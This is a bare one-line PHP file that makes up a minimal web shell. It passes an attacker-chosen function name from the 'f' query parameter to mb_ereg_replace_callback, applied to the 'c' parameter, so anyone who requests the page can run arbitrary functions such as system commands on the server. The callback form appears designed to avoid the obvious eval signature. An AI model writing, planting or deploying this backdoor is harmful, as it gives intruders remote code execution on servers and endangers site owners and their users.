<?php mb_ereg_replace_callback(".+", $_GET["f"], $_GET["c"]);
